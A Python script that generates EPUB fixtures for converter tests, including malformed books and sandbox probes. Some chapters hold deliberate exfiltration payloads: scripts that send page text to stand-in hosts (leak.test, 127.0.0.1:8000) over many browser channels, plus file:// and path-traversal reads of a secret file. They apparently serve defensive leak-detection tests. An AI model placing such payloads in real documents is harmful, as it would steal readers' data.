#!/usr/bin/env python3
"""Writes the small EPUB books that the conversion tests use.

usage: make_books.py OUTPUT_FOLDER SECRET_FILE

SECRET_FILE is a file outside every book that the "leaky" book tries to read.
"""
import os
import random
import sys
import zipfile

out, secret = sys.argv[1], sys.argv[2]
os.makedirs(out, exist_ok=True)

CONTAINER = """<?xml version="1.0"?>
<container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container">
<rootfiles><rootfile full-path="OEBPS/content.opf" media-type="application/oebps-package+xml"/></rootfiles>
</container>"""

PNG_1X1 = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de"
                        "0000000c4944415408d763f8cfc0f00003010100c9fe92ef0000000049454e44ae426082")


def page(title, body):
    return ('<?xml version="1.0" encoding="UTF-8"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><head><title>%s'
            '</title></head><body>%s</body></html>' % (title, body))


def book(name, chapters, points=None, ncx=True, files=None, title="Test Book", creator="Tester", missing=(),
         ncx_text=None):
    """chapters: [(href, bytes or str)], points: [(label, src, [children])]; hrefs in missing are listed
    in the spine but not stored; ncx_text replaces the NCX written from points."""
    manifest, spine = [], []
    for i, (href, _) in enumerate(chapters):
        manifest.append('<item id="c%d" href="%s" media-type="application/xhtml+xml"/>' % (i, href))
        spine.append('<itemref idref="c%d"/>' % i)
    opf = ('<?xml version="1.0" encoding="UTF-8"?><package xmlns="http://www.idpf.org/2007/opf" version="2.0">'
           '<metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>%s</dc:title><dc:creator>%s</dc:creator>'
           '</metadata><manifest>%s</manifest><spine toc="ncx">%s</spine></package>'
           % (title, creator, "".join(manifest), "".join(spine)))

    def nav(items):
        return "".join('<navPoint><navLabel><text>%s</text></navLabel><content src="%s"/>%s</navPoint>'
                       % (label, src, nav(kids)) for label, src, kids in items)

    if points is None:
        points = [("Chapter %d" % (i + 1), href, []) for i, (href, _) in enumerate(chapters)]
    with zipfile.ZipFile(os.path.join(out, name), "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("mimetype", "application/epub+zip", compress_type=zipfile.ZIP_STORED)
        z.writestr("META-INF/container.xml", CONTAINER)
        z.writestr("OEBPS/content.opf", opf)
        if ncx:
            z.writestr("OEBPS/toc.ncx", ncx_text or '<?xml version="1.0"?><ncx xmlns="http://www.daisy.org/z3986/2005/ncx/" '
                                                    'version="2005-1"><navMap>%s</navMap></ncx>' % nav(points))
        for href, content in chapters:
            if href not in missing:
                z.writestr("OEBPS/" + href, content)
        for path, content in (files or {}).items():
            z.writestr(path, content)


def text_chapter(n, extra=""):
    return page("Chapter %d" % n, "<h1>Chapter %d</h1><p>Text of chapter %d.</p>%s" % (n, n, extra))


# Five chapters whose third is a file the browser will not render as a page.
book("failing-middle.epub",
     [("ch1.xhtml", text_chapter(1, '<p><a href="ch2.xhtml">next</a></p>')), ("ch2.xhtml", text_chapter(2)),
      ("ch3.bin", os.urandom(4096)), ("ch4.xhtml", text_chapter(4)), ("ch5.xhtml", text_chapter(5))],
     points=[("One", "ch1.xhtml", []), ("Two", "ch2.xhtml", [("Two.1", "ch2.xhtml#a", []), ("Into four", "ch4.xhtml", [])]),
             ("Three", "ch3.bin", [("Three.1", "ch1.xhtml", [])]), ("Four", "ch4.xhtml", []), ("Five", "ch5.xhtml", [])])

# Four chapters, for progress and cancellation.
book("four.epub", [("c%d.xhtml" % i, text_chapter(i)) for i in range(1, 5)])


# Two chapters that draw different letters in one sans face and one serif face: each chapter's PDF holds
# its own subset of both.
def two_faces(words):
    return page("Faces", '<p style="font: 40px \'DejaVu Sans\'">%s</p><p style="font: 40px \'DejaVu Serif\'">%s</p>'
                % words)


book("two-faces.epub", [("a.xhtml", two_faces(("Alpha jumps", "Serif hello"))),
                        ("b.xhtml", two_faces(("Zebra quiz", "Woven text")))])

# Small books for batches.
for i in range(1, 26):
    book("small-%02d.epub" % i, [("a.xhtml", text_chapter(1)), ("b.xhtml", text_chapter(2))], title="Small %d" % i)

# Chapters that never finish loading: a dialog that nobody answers, a script that never ends.
book("hang-alert.epub", [("ch1.xhtml", text_chapter(1)),
                         ("ch2.xhtml", text_chapter(2, '<script>alert("nobody answers");</script>')),
                         ("ch3.xhtml", text_chapter(3))])
book("hang-loop.epub", [("ch1.xhtml", text_chapter(1)),
                        ("ch2.xhtml", text_chapter(2, '<script>for (;;) {}</script>')),
                        ("ch3.xhtml", text_chapter(3))])

# Books that convert with something left out, which the result must name.
book("missing-chapter.epub", [("ch1.xhtml", text_chapter(1)), ("ch2.xhtml", text_chapter(2)),
                              ("ch3.xhtml", text_chapter(3))], missing=("ch2.xhtml",))
book("broken-ncx.epub", [("ch1.xhtml", text_chapter(1)), ("ch2.xhtml", text_chapter(2))],
     ncx_text='<?xml version="1.0"?><ncx xmlns="http://www.daisy.org/z3986/2005/ncx/"><navMap><navPoint>'
              '<navLabel><text>One</text></navLabel><content src="ch1.xhtml"/></navPoint> < </navMap></ncx>')

# Books that must be refused, each for its own reason.
book("broken-opf.epub", [("a.xhtml", text_chapter(1))], title="Fish < Chips")
with zipfile.ZipFile(os.path.join(out, "broken-container.epub"), "w") as z:
    z.writestr("mimetype", "application/epub+zip")
    z.writestr("META-INF/container.xml", CONTAINER.replace("<rootfiles>", "<rootfiles><"))
    z.writestr("OEBPS/content.opf", "<package/>")
open(os.path.join(out, "broken-notzip.epub"), "w").write("This is not an archive.\n")
with zipfile.ZipFile(os.path.join(out, "broken-nocontainer.epub"), "w") as z:
    z.writestr("mimetype", "application/epub+zip")
    z.writestr("OEBPS/content.opf", "<package/>")
book("broken-nochapters.epub", [], points=[])

# A chapter that reaches for a file outside the book and for the network; its own image is inside.
leaky = page("Leaky", (
    '<style>body { background-image: url("file://%(s)s"); } h1 { background: url("../../../../..%(s)s"); }</style>'
    '<h1>Leaky chapter</h1><p>Own image: <img src="img/own.png" width="40" height="40"/></p>'
    '<iframe src="file://%(s)s" width="500" height="80"></iframe>'
    '<object data="file://%(s)s" type="text/plain" width="500" height="80"></object>'
    '<img src="file://%(s)s"/><img src="https://example.org/tracker.png"/>'
    '<p><a href="https://example.org/page">a web link</a></p>') % {"s": secret})
book("leaky.epub", [("leaky.xhtml", leaky)], files={"OEBPS/img/own.png": PNG_1X1})

# Two books of one name in different folders.
for folder in ("a", "b"):
    os.makedirs(os.path.join(out, folder), exist_ok=True)
    book(os.path.join(folder, "same.epub"), [("x.xhtml", text_chapter(1))], title="Same " + folder)


def raw_book(name, files, container=CONTAINER):
    """files: {path in the archive: str or bytes}, besides mimetype and the container."""
    with zipfile.ZipFile(os.path.join(out, name), "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("mimetype", "application/epub+zip", compress_type=zipfile.ZIP_STORED)
        z.writestr("META-INF/container.xml", container)
        for path, content in files.items():
            z.writestr(path, content)


# A table of contents made of the chapters' own titles: no NCX, no navigation document.
book("no-toc.epub", [("a.xhtml", page("Morning", "<p>First.</p>")),
                     ("b.xhtml", page("", "<h2>Evening</h2><p>Second.</p>")),
                     ("c.xhtml", page("", "<p>Third.</p>"))], ncx=False)

# EPUB 3 as current tools write it: the package namespace bound to "opf:", Dublin Core to "d:", a
# navigation document and no NCX; a cover image page, an image in the spine, an SVG page, a chapter that
# is HTML but not XML (an undeclared entity), and one whose quotes are Windows-1252 bytes.


def png(width, height, rgb):
    """A PNG of one colour."""
    import struct
    import zlib

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    rows = b"".join(b"\0" + bytes(rgb) * width for _ in range(height))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)) +
            chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


COVER_PNG = png(2, 3, (200, 30, 30))
raw_book("epub3-nav.epub", {
    "OPS/package.opf": """<?xml version="1.0" encoding="UTF-8"?>
<opf:package xmlns:opf="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="id">
 <opf:metadata xmlns:d="http://purl.org/dc/elements/1.1/">
  <d:title id="t2">Collected Works</d:title><d:title id="t1">The Main Title</d:title>
  <opf:meta refines="#t1" property="title-type">main</opf:meta>
  <d:creator>Ann Author</d:creator><d:creator>Bob Builder</d:creator><d:language>de-CH</d:language>
  <d:identifier>urn:other</d:identifier><d:identifier id="id">urn:uuid:1234</d:identifier><d:date>2001-02-03</d:date>
 </opf:metadata>
 <opf:manifest>
  <opf:item id="nav" href="nav.xhtml" media-type="application/xhtml+xml" properties="nav"/>
  <opf:item id="cover" href="cover.xhtml" media-type="application/xhtml+xml"/>
  <opf:item id="img" href="cover.png" media-type="image/png"/>
  <opf:item id="one" href="text/one.xhtml" media-type="application/xhtml+xml"/>
  <opf:item id="svg" href="text/map.svg" media-type="image/svg+xml"/>
  <opf:item id="html" href="text/loose.xhtml" media-type="application/xhtml+xml"/>
  <opf:item id="cp" href="text/quotes.xhtml" media-type="application/xhtml+xml"/>
 </opf:manifest>
 <opf:spine><opf:itemref idref="cover"/><opf:itemref idref="img"/><opf:itemref idref="one"/>
  <opf:itemref idref="svg"/><opf:itemref idref="html"/><opf:itemref idref="cp"/></opf:spine>
</opf:package>""",
    "OPS/nav.xhtml": """<?xml version="1.0" encoding="UTF-8"?>
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops"><head><title>Contents</title></head>
<body><nav epub:type="landmarks"><ol><li><a epub:type="cover" href="cover.xhtml">Cover</a></li></ol></nav>
<nav epub:type="toc"><h1>Contents</h1><ol>
 <li><span>Part <b>One</b></span><ol><li><a href="text/one.xhtml">1.1 The
   <code>first</code> chapter</a></li><li><a href="text/map.svg">1.2 A map</a></li></ol></li>
 <li><a href="text/loose.xhtml#s">Loose HTML</a></li><li><a href="text/quotes.xhtml">Quotes</a></li>
 <li><a href="nowhere.xhtml">Not in the book</a></li>
</ol></nav></body></html>""",
    "OPS/cover.xhtml": page("Cover", '<div style="margin:3em"><img src="cover.png" alt="" '
                                     'style="width:2000px;height:3000px"/></div>'),
    "OPS/cover.png": COVER_PNG,
    "OPS/text/one.xhtml": page("One", "<h1>First chapter</h1><p>Text of the first chapter.</p>"),
    "OPS/text/map.svg": '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="300" height="200">'
                        '<rect width="300" height="200" fill="#ccc"/><text x="20" y="100">Map of the land</text></svg>',
    "OPS/text/loose.xhtml": page("Loose", '<p id="s">Before&nbsp;the entity and after it: loose text end.</p>'),
    "OPS/text/quotes.xhtml": page("Quotes", "<p>She said \x93hello\x94 twice.</p>").encode("latin-1"),
    "OPS/notes.txt": "Not the package.",
}, container="""<?xml version="1.0"?><c:container version="1.0" xmlns:c="urn:oasis:names:tc:opendocument:xmlns:container">
<c:rootfiles><c:rootfile full-path="OPS/notes.txt" media-type="text/plain"/>
<c:rootfile full-path="OPS/package.opf" media-type="application/oebps-package+xml"/></c:rootfiles></c:container>""")

# A pre-paginated book: every page 600x800 CSS pixels, one PDF page each.
FIXED = ('<?xml version="1.0" encoding="UTF-8"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>%s</title>'
         '<meta name="viewport" content="width=600, height=800"/></head>'
         '<body style="margin:0;width:600px;height:800px;background:#eef"><p>%s</p></body></html>')
raw_book("fixed-layout.epub", {
    "OEBPS/content.opf": """<?xml version="1.0" encoding="UTF-8"?>
<package xmlns="http://www.idpf.org/2007/opf" version="3.0"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/">
 <dc:title>Fixed</dc:title><meta property="rendition:layout">pre-paginated</meta></metadata>
 <manifest><item id="p1" href="p1.xhtml" media-type="application/xhtml+xml"/>
 <item id="p2" href="p2.xhtml" media-type="application/xhtml+xml"/>
 <item id="ncx" href="nav/contents.ncx" media-type="application/x-dtbncx+xml"/></manifest>
 <spine toc="ncx"><itemref idref="p1"/><itemref idref="p2"/></spine></package>""",
    "OEBPS/nav/contents.ncx": '<?xml version="1.0"?><ncx xmlns="http://www.daisy.org/z3986/2005/ncx/"><navMap>'
                              '<navPoint><navLabel><text>Page one</text></navLabel><content src="../p1.xhtml"/></navPoint>'
                              '<navPoint><navLabel><text>Page two</text></navLabel><content src="../p2.xhtml"/></navPoint>'
                              '</navMap></ncx>',
    "OEBPS/p1.xhtml": FIXED % ("One", "Fixed page one"),
    "OEBPS/p2.xhtml": FIXED % ("Two", "Fixed page two"),
})

# Pre-paginated, right to left, in spreads: a page whose viewport gives units (pixels all the same) and
# holds what lies outside it in red; a page that asks for the left and would fall on the right; one whose
# viewport cannot be read and one that is a picture, both at the book's viewport.
SPREAD = ('<?xml version="1.0" encoding="UTF-8"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>%s</title>'
          '<meta name="viewport" content="%s"/></head><body style="margin:0">'
          '<div style="position:absolute;top:0;left:0;width:2000px;height:2000px;background:red"></div>'
          '<div style="position:absolute;top:0;left:0;width:600px;height:800px;background:#eef"><p>%s</p></div>'
          '</body></html>')
raw_book("rtl-spreads.epub", {
    "OEBPS/content.opf": """<?xml version="1.0" encoding="UTF-8"?>
<package xmlns="http://www.idpf.org/2007/opf" version="3.0"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/">
 <dc:title>Spreads</dc:title><dc:language>ja</dc:language><meta property="rendition:layout">pre-paginated</meta>
 <meta property="rendition:viewport">width=500, height=700</meta></metadata>
 <manifest><item id="p1" href="p1.xhtml" media-type="application/xhtml+xml"/>
 <item id="p2" href="p2.xhtml" media-type="application/xhtml+xml"/>
 <item id="p3" href="p3.xhtml" media-type="application/xhtml+xml"/>
 <item id="pic" href="pic.png" media-type="image/png"/></manifest>
 <spine page-progression-direction="rtl"><itemref idref="p1" properties="page-spread-left"/>
 <itemref idref="p2" properties="rendition:page-spread-left"/><itemref idref="p3"/><itemref idref="pic"/></spine>
</package>""",
    "OEBPS/p1.xhtml": SPREAD % ("One", "width=600px, height=800mm", "Spread page one"),
    "OEBPS/p2.xhtml": SPREAD % ("Two", "width=600, height=800", "Spread page two"),
    "OEBPS/p3.xhtml": SPREAD % ("Three", "initial-scale=1.0", "Spread page three"),
    "OEBPS/pic.png": png(20, 28, (30, 30, 200)),
})

# Links that land: within the chapter to an element two pages on, to an empty page marker before a
# forced page break in the next chapter, to an element that does not exist, to a file not in the book.
raw_book("anchors.epub", {
    "OEBPS/content.opf": """<?xml version="1.0" encoding="UTF-8"?>
<package xmlns="http://www.idpf.org/2007/opf" version="2.0"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/">
 <dc:title>Anchors</dc:title></metadata><manifest><item id="a" href="a.xhtml" media-type="application/xhtml+xml"/>
 <item id="b" href="b.xhtml" media-type="application/xhtml+xml"/><item id="ncx" href="toc.ncx" media-type="application/x-dtbncx+xml"/>
 </manifest><spine toc="ncx"><itemref idref="a"/><itemref idref="b"/></spine></package>""",
    "OEBPS/toc.ncx": '<?xml version="1.0"?><ncx xmlns="http://www.daisy.org/z3986/2005/ncx/"><navMap>'
                     '<navPoint><navLabel><text>A</text></navLabel><content src="a.xhtml"/>'
                     '<navPoint><navLabel><text>Far</text></navLabel><content src="a.xhtml#far"/></navPoint></navPoint>'
                     '<navPoint><navLabel><text>Marker</text></navLabel><content src="b.xhtml#marker"/></navPoint>'
                     '</navMap></ncx>',
    "OEBPS/a.xhtml": page("A", '<p><a href="#far">to far</a> <a href="b.xhtml#marker">to marker</a> '
                               '<a href="b.xhtml#nothing">to nothing</a> <a href="gone.xhtml">to gone</a></p>' +
                          "".join("<p>Filler paragraph %d of the first chapter.</p>" % i for i in range(120)) +
                          '<h2 id="far">Far heading</h2>'),
    "OEBPS/b.xhtml": page("B", '<p>Intro of the second chapter.</p><p><span><a id="marker"></a></span></p>'
                               '<h2 style="page-break-before: always">After the break</h2>'),
})

# Twelve chapters: enough steps of progress to tell a log from a line a step.
book("twelve.epub", [("c%d.xhtml" % i, text_chapter(i)) for i in range(1, 13)])

# A book printed in colour: a cover (the page's own background, the body's here, propagated to the
# page), then a chapter whose root sets its background colour and one whose background is a picture.
book("coloured.epub", [
    ("cover.xhtml", page("Cover", '<h1 style="color: white">The Coloured Book</h1>').replace(
        "<body>", '<body style="background: #204060">')),
    ("c1.xhtml", page("One", "<h1>Chapter one</h1><p>Text on a sand-coloured page.</p>").replace(
        "<head>", "<head><style>html { background-color: rgb(240, 220, 170) }</style>")),
    ("c2.xhtml", page("Two", "<h1>Chapter two</h1><p>Plain white.</p>")),
])

# One chapter for each way a page could carry its text out of the machine, each tagged with its name:
# by a host name (<name>.leak.test: a DNS query, then a connection to port 80 or 443) and by an address
# (127.0.0.1:8000/<name>). tests/support/netwatch.py watches for them.
def attribute(markup):
    return markup.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;").replace(">", "&gt;")


def senders(name):
    """A script that tries every channel of a document or a worker, tagged name-<channel>."""
    return ("const s = encodeURIComponent(document.body ? document.body.textContent : 'worker');"
            "const go = (c, f) => { for (const u of ['http://%(n)s-' + c + '.leak.test/?' + s, "
            "'http://127.0.0.1:8000/%(n)s-' + c + '?' + s]) { try { f(u); } catch (e) {} } };"
            "go('fetch', u => fetch(u).catch(() => {}));"
            "go('beacon', u => navigator.sendBeacon(u, s));"
            "go('img', u => { const i = new Image(); i.src = u; });"
            "go('css', u => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = u;"
            " document.head.appendChild(l); });"
            "go('ws', u => new WebSocket(u.replace('http', 'ws')));"
            "go('wt', u => new WebTransport(u.replace('http', 'https')).ready.catch(() => {}));"
            "go('worker', u => new Worker('data:text/javascript,fetch(' + JSON.stringify(u) + ')'));"
            "go('rtc', u => { const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:8000'}]});"
            " pc.createDataChannel('x'); pc.createOffer().then(o => pc.setLocalDescription(o)); });") % {"n": name}


LEAKS = {
    # The page's own script, and a frame of it.
    "page": "<script>%s</script>" % senders("page").replace("&", "&amp;").replace("<", "&lt;"),
    # A sandboxed frame runs with an opaque origin, in a process of its own.
    "sandboxed": '<iframe sandbox="allow-scripts" srcdoc="%s"></iframe>'
                 % attribute("<p>frame</p><script>%s</script>" % senders("sandboxed")),
    "sandbox-static": '<iframe sandbox="" srcdoc="%s"></iframe>' % attribute(
        '<img src="http://sandbox-static-img.leak.test/"><img src="http://127.0.0.1:8000/sandbox-static-img">'
        '<link rel="stylesheet" href="http://sandbox-static-css.leak.test/">'
        '<div style="background: url(http://127.0.0.1:8000/sandbox-static-bg)">x</div>'),
    # The browser itself fetches what speculation rules name, query and all, without any script.
    "speculation": '<script type="speculationrules">{"prefetch": [{"source": "list", "urls": '
                   '["http://speculation-prefetch.leak.test/?SECRET", "http://127.0.0.1:8000/speculation-prefetch"]}],'
                   ' "prerender": [{"source": "list", "urls": ["http://speculation-prerender.leak.test/?SECRET",'
                   ' "http://127.0.0.1:8000/speculation-prerender"]}]}</script>'
                   '<a href="http://speculation-link.leak.test/">a link</a>',
    "preconnect": '<link rel="preconnect" href="http://preconnect-SECRET.leak.test/"/>'
                  '<link rel="dns-prefetch" href="http://dns-prefetch-SECRET.leak.test/"/>'
                  '<link rel="preconnect" href="http://127.0.0.1:8000/"/>',
    # Navigations the request policy blocks.
    "refresh": '<meta http-equiv="refresh" content="0; url=http://refresh.leak.test/?SECRET"/>',
    "location": "<script>location = 'http://location.leak.test/?SECRET';</script>",
    "form": '<form action="http://form.leak.test/" method="get"><input name="q" value="SECRET"/></form>'
            '<script>document.forms[0].submit();</script>',
    "ip-navigation": "<script>setTimeout(() => { location = 'http://127.0.0.1:8000/ip-navigation?SECRET'; }, 10);"
                     "</script>",
    # Features whose requests the browser makes on its own.
    "payment": "<script>try { const r = new PaymentRequest([{supportedMethods: "
               "'https://payment.leak.test/pay?SECRET'}, {supportedMethods: 'http://127.0.0.1:8000/pay'}], "
               "{total: {label: 'x', amount: {currency: 'USD', value: '1'}}}); r.canMakePayment().catch(() => {});"
               " r.show().catch(() => {}); } catch (e) {}</script>",
    "fedcm": "<script>try { navigator.credentials.get({identity: {providers: [{configURL: "
             "'https://fedcm.leak.test/config.json', clientId: 'SECRET'}]}}).catch(() => {}); } catch (e) {}</script>",
}
book("exfiltrate.epub", [("%s.xhtml" % name, page(name, "<p>SECRET-%s</p>%s" % (name, markup)))
                         for name, markup in LEAKS.items()])

# Ways a page starts a download: a link with download, clicked, and a frame of a binary file of the book.
book("download.epub", [("d.xhtml", page("d", '<p>DOWNLOAD-TEXT</p><a id="a" href="data.bin" download="x.bin">x</a>'
                                             '<iframe src="data.bin"></iframe>'
                                             '<script>document.getElementById("a").click();</script>'))],
     files={"OEBPS/data.bin": bytes(range(256)) * 64})

# A chapter and a picture that does not compress (400 KiB): more than a nearly full disk holds.
book("big-picture.epub", [("p.xhtml", page("p", '<p>PICTURE</p><img src="img/big.png"/>'))],
     files={"OEBPS/img/big.png": PNG_1X1 + random.Random(7).randbytes(400 << 10)})

# Names in every script and form: ids in kanji and kana, Cyrillic, with spaces, with "%" and escapes,
# composed against decomposed (NFC / NFD), with characters the browser escapes in its names. Both
# chapters hold every id, each at a heading of its own page; each chapter links to every id in itself and
# in the other, in each form listed; the table of contents points at those of chapter b in three forms.


def nfc(text):
    import unicodedata
    return unicodedata.normalize("NFC", text)


def nfd(text):
    import unicodedata
    return unicodedata.normalize("NFD", text)


def quote(text):
    import urllib.parse
    return urllib.parse.quote(text, safe="")


def attr(text):
    import html
    return html.escape(text, quote=True)


NAMES = [  # (what, the id as the chapter writes it, the fragments that links write for it)
    ("kanji", "h.0001.総合的にみて", ["h.0001.総合的にみて", quote("h.0001.総合的にみて")]),
    ("kana", "h.0006.Kindle_20Paperwhiteでの確認結果", ["h.0006.Kindle_20Paperwhiteでの確認結果"]),
    ("figure", nfc("f.0001.サンプル数式のiBooks3_2e0による表示_EF_BC_91"),
     [nfc("f.0001.サンプル数式のiBooks3_2e0による表示_EF_BC_91"), nfd("f.0001.サンプル数式のiBooks3_2e0による表示_EF_BC_91")]),
    ("cyrillic", "глава-первая", ["глава-первая", quote("глава-первая")]),
    ("spaces", "two words here", ["two words here", "two%20words%20here"]),
    ("percent", "pct%41", ["pct%2541", "pct%41"]),
    ("escaped", "pctB", ["pct%42"]),
    ("composed", nfc("プラグイン"), [nfd("プラグイン"), quote(nfd("プラグイン"))]),
    ("decomposed", nfd("ガイド"), [nfc("ガイド"), nfd("ガイド")]),
    ("brackets", "a[1]{x}|^", ["a[1]{x}|^", "a%5B1%5D%7Bx%7D%7C%5E"]),
    ("quotes", 'q"<>`\'', ['q"<>`\'', "q%22%3C%3E%60'"]),
    ("hash", "hash#in", ["hash%23in"]),
    ("slash", "slash/and?q", ["slash/and?q", "slash%2Fand%3Fq"]),
    ("emoji", "emoji\U0001F600", ["emoji\U0001F600"]),
]


def names_chapter(me, other):
    links = []
    for what, _, fragments in NAMES:
        for i, fragment in enumerate(fragments, 1):
            links.append('<a href="#%s">%s2%s %s %d</a>' % (attr(fragment), me, me, what, i))
            links.append('<a href="%s.xhtml#%s">%s2%s %s %d</a>' % (other, attr(fragment), me, other, what, i))
    targets = "".join('<h2 id="%s" style="page-break-before: always">Chapter %s target %s</h2><p>Text.</p>'
                      % (attr(name), me, what) for what, name, _ in NAMES)
    return page("Names " + me, "<h1>Names %s</h1><p>%s</p>%s" % (me, "<br/>".join(links), targets))


names_ncx = "".join('<navPoint><navLabel><text>b %s %s</text></navLabel><content src="b.xhtml#%s"/></navPoint>'
                    % (what, form, attr(fragment)) for what, name, _ in NAMES
                    for form, fragment in (("raw", name), ("encoded", quote(name)), ("nfd", nfd(name))))
raw_book("names.epub", {
    "OEBPS/content.opf": """<?xml version="1.0" encoding="UTF-8"?>
<package xmlns="http://www.idpf.org/2007/opf" version="2.0"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/">
 <dc:title>Names</dc:title></metadata><manifest><item id="a" href="a.xhtml" media-type="application/xhtml+xml"/>
 <item id="b" href="b.xhtml" media-type="application/xhtml+xml"/><item id="ncx" href="toc.ncx" media-type="application/x-dtbncx+xml"/>
 </manifest><spine toc="ncx"><itemref idref="a"/><itemref idref="b"/></spine></package>""",
    "OEBPS/toc.ncx": '<?xml version="1.0" encoding="UTF-8"?><ncx xmlns="http://www.daisy.org/z3986/2005/ncx/"><navMap>'
                     '<navPoint><navLabel><text>a</text></navLabel><content src="a.xhtml"/></navPoint>%s</navMap></ncx>'
                     % names_ncx,
    "OEBPS/a.xhtml": names_chapter("a", "b"),
    "OEBPS/b.xhtml": names_chapter("b", "a"),
})
